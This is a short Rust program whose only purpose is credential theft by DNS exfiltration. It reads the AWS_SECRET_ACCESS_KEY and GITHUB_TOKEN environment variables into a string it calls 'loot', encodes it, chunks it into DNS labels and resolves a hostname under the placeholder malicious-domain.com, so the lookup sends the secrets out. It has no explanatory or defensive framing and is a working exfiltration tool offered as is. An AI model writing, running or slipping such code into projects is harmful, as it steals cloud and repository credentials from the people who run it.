use std::env;
use std::net::ToSocketAddrs;

fn encode(input: &[u8]) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut out = String::new();
    for chunk in input.chunks(3) {
        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
        let n = (b[0] as u32) << 16 | (b[1] as u32) << 8 | b[2] as u32;
        for i in 0..=chunk.len() {
            out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
        }
    }
    out
}

fn main() {
    let mut loot = String::new();
    for name in ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"] {
        if let Ok(value) = env::var(name) {
            loot.push_str(&value);
            loot.push(';');
        }
    }
    // DNS labels hold at most 63 bytes: cut the encoded loot into labels.
    let encoded = encode(loot.as_bytes());
    let labels: Vec<&str> = encoded.as_bytes().chunks(60)
        .map(|chunk| std::str::from_utf8(chunk).unwrap()).collect();
    let host = format!("{}.malicious-domain.com:53", labels.join("."));
    let _ = host.to_socket_addrs();
}
